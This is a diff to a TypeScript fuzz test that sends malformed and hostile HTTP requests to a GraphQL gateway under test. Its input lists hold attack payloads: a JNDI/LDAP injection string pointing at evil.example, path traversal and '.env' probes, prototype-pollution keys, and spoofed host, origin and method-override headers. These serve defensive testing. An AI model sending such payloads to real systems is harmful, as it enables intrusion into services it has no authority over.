@@ -4,10 +4,212 @@ import { type RawAnswer, sendRaw } from '../../support/rawHttp.ts';
 import { startTestGateway, type TestGateway } from '../../support/testGateways.ts';
 import { startTestGraph } from '../../support/testGraphs.ts';
 import { timeLimitMs, volumeOf } from '../volume.ts';
-import { built } from './choices.ts';
+import { built, type Choices } from './choices.ts';
 import { playRandomCases } from './fuzzRun.ts';
 import { findAnswerProblem } from './judgeAnswer.ts';
-import { type RandomRequest, randomRequest } from './randomRequest.ts';
+import { randomText } from './randomTexts.ts';
+import { randomJunk } from './randomValues.ts';
+
+/** A request as bytes. */
+interface RandomRequest {
+  readonly bytes: Buffer;
+  /** Whether it is HTTP, whatever it asks for; of anything else only some answer or a closed connection is expected. */
+  readonly isHttp: boolean;
+  readonly method: string;
+}
+
+const good = '{"query":"{ complianceManagementPartners { totalCount } }"}';
+
+const contentTypes = [
+  'application/json',
+  'application/json; charset=utf-8',
+  'application/json; charset=utf-16',
+  'application/json;charset=iso-8859-1',
+  'application/json; charset="',
+  'APPLICATION/JSON',
+  'application/graphql',
+  'application/graphql+json',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data; boundary=x',
+  'multipart/form-data',
+  'multipart/mixed; boundary="-"',
+  'text/plain',
+  'text/plain; charset=utf-8',
+  'text/html',
+  'application/xml',
+  'application/json, text/plain',
+  '/',
+  ';',
+  'json',
+  '*/*',
+  '',
+];
+
+const methods = [
+  'POST',
+  'GET',
+  'PUT',
+  'PATCH',
+  'DELETE',
+  'OPTIONS',
+  'HEAD',
+  'TRACE',
+  'PROPFIND',
+  'QUERY',
+  'LOCK',
+  'SEARCH',
+];
+
+const paths = [
+  '/graphql',
+  '/graphql?query=%7B__typename%7D',
+  '/graphql?query={__typename}',
+  '/graphql?query=%E0%A4%A',
+  '/graphql?query=%00',
+  '/graphql?query=a&query=b&variables=%7B&extensions=[]',
+  '/graphql?query=mutation%7BdeleteComplianceManagementPartner(input:%7Bid:%22a%22%7D)%7BuserErrors%7Bcode%7D%7D%7D',
+  '/graphql?__proto__[query]=x&constructor.prototype=y',
+  '/graphql/',
+  '/GraphQL',
+  '/graphql%2f..%2f',
+  '/graphql;a=b',
+  '//graphql',
+  '/./graphql',
+  '/../graphql',
+  '/%2e%2e/graphql',
+  '/%',
+  '/%zz',
+  '/%c0%ae',
+  '/schema.graphql',
+  '/livez',
+  '/readyz?x',
+  '/metrics',
+  '/.env',
+  '/favicon.ico',
+  '/__proto__',
+  'http://127.0.0.1/graphql',
+  'http://[::1/graphql',
+  '*',
+  '/?x',
+];
+
+const odd = [
+  ['accept', 'application/graphql-response+json'],
+  ['accept', 'text/event-stream'],
+  ['accept', 'multipart/mixed; deferSpec=20220824'],
+  ['accept', ';;;q=,'],
+  ['accept', 'application/json;q=0'],
+  ['accept-encoding', 'gzip;q=1.0, br'],
+  ['content-encoding', 'gzip'],
+  ['content-encoding', 'br, gzip'],
+  ['content-encoding', 'identity'],
+  ['expect', '200-maybe'],
+  ['expect', '100-continue'],
+  ['cookie', '__proto__=x; a=b'],
+  ['origin', 'null'],
+  ['origin', 'https://evil.example'],
+  ['prefer', 'wait=0'],
+  ['prefer', 'wait=99999999999999'],
+  ['prefer', 'wait=-1, return=minimal;;'],
+  ['client-request-id', 'a b\tc'],
+  ['client-request-id', 'x'.repeat(500)],
+  ['client-request-id', '__proto__'],
+  ['traceparent', '00-00000000000000000000000000000000-0000000000000000-00'],
+  ['traceparent', 'ff-zz'],
+  ['tracestate', 'x'.repeat(600)],
+  ['authorization', 'Bearer'],
+  ['authorization', 'Basic YTpi'],
+  ['authorization', `Bearer ${'a'.repeat(5_000)}`],
+  ['authorization', 'Bearer \u00fc'],
+  ['x-forwarded-for', '127.0.0.1, unknown'],
+  ['x-forwarded-host', 'evil.example'],
+  ['x-http-method-override', 'DELETE'],
+  ['apollo-require-preflight', ''],
+  ['x-apollo-operation-name', '\u00ff'],
+  ['apollographql-client-name', '\u0024{jndi:ldap://evil.example/a}'],
+  ['__proto__', 'x'],
+  ['constructor', 'x'],
+  ['host', 'evil.example'],
+  ['content-type', 'text/plain'],
+  ['range', 'bytes=0-'],
+  ['if-none-match', '*'],
+  ['max-forwards', '0'],
+  ['te', 'trailers'],
+  ['upgrade-insecure-requests', '1'],
+] as const;
+
+/** Draws a request: bytes, broken JSON, odd types and headers, any method, path and query; some are no HTTP at all. */
+function randomRequest(choices: Choices): RandomRequest {
+  const method = choices.chance(65) ? 'POST' : choices.pick(methods);
+  const path = choices.chance(60) ? '/graphql' : choices.pick(paths);
+  const body = randomBody(choices);
+  const headers: (readonly [string, string])[] = [
+    ['host', '127.0.0.1'],
+    ['connection', 'close'],
+    ['content-length', String(body.length)],
+  ];
+  if (choices.chance(90)) {
+    headers.push([
+      'content-type',
+      choices.chance(60) ? 'application/json' : choices.pick(contentTypes),
+    ]);
+  }
+  if (choices.chance(70)) {
+    headers.push(['authorization', 'Bearer embedded-graph-token']);
+  }
+  headers.push(...choices.some(4, () => choices.pick(odd)));
+  const head = `${method} ${path} HTTP/1.1\r\n${headers.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`;
+  const bytes = Buffer.concat([Buffer.from(head, 'latin1'), body]);
+  return choices.chance(8)
+    ? { bytes: cutBytes(bytes, choices), isHttp: false, method }
+    : { bytes, isHttp: true, method };
+}
+
+function randomBody(choices: Choices): Buffer {
+  switch (choices.below(10)) {
+    case 0:
+      return Buffer.alloc(0);
+    case 1:
+      return Buffer.from(choices.some(60, () => choices.below(256)));
+    case 2:
+      return Buffer.from(randomText(choices));
+    case 3:
+      return Buffer.from(randomJunk({ kind: 'json' }, choices));
+    case 4:
+      return cutBytes(Buffer.from(good), choices);
+    case 5:
+      return Buffer.from(`[${good},${good}]`);
+    case 6:
+      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(good)]);
+    case 7:
+      return Buffer.from(good, choices.pick(['utf16le', 'latin1', 'utf8']));
+    case 8:
+      return Buffer.from(
+        choices.pick([
+          `${'['.repeat(choices.below(20_000))}`,
+          `{"query":"{ __typename }","variables":${'{"a":'.repeat(choices.below(5_000))}1}`,
+          `{"query":"${'x'.repeat(choices.below(65_536))}"}`,
+          `{"query":"{ __typename }","x":"${'x'.repeat(65_536)}"}`,
+          '{"query":"{ __typename }","query":"{ nothing }"}',
+          '{"__proto__":{"query":"{ __typename }"}}',
+          '{"query":null,"variables":{},"extensions":{"persistedQuery":{"version":1,"sha256Hash":"00"}}}',
+          '{"query":{"kind":"Document"},"variables":[1]}',
+          '{"query":"{ __typename }","variables":"{}","operationName":7,"extensions":null}',
+          '--x\r\ncontent-disposition: form-data; name="operations"\r\n\r\n{}\r\n--x--',
+          'query=%7B__typename%7D&variables=%7B%7D',
+        ]),
+      );
+    default:
+      return Buffer.from(good);
+  }
+}
+
+/** Takes bytes out and puts others in. */
+function cutBytes(bytes: Buffer, choices: Choices): Buffer {
+  const at = choices.below(Math.min(65_536, bytes.length + 1));
+  const put = Buffer.from(choices.some(4, () => choices.below(256)));
+  return Buffer.concat([bytes.subarray(0, at), put, bytes.subarray(at + choices.below(8))]);
+}
 
 const wanted = volumeOf(10_000);
 
